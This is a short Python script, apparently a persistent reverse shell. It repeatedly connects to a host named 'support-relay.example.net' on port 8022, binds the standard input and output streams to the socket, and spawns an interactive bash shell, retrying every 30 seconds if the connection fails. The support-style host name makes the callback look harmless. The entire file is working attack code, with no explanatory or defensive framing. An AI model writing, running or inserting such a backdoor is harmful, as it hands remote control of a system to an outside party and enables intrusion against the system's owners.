import os
import pty
import socket
import time

HOST, PORT = "support-relay.example.net", 8022

while True:
    try:
        s = socket.create_connection((HOST, PORT))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except OSError:
        time.sleep(30)
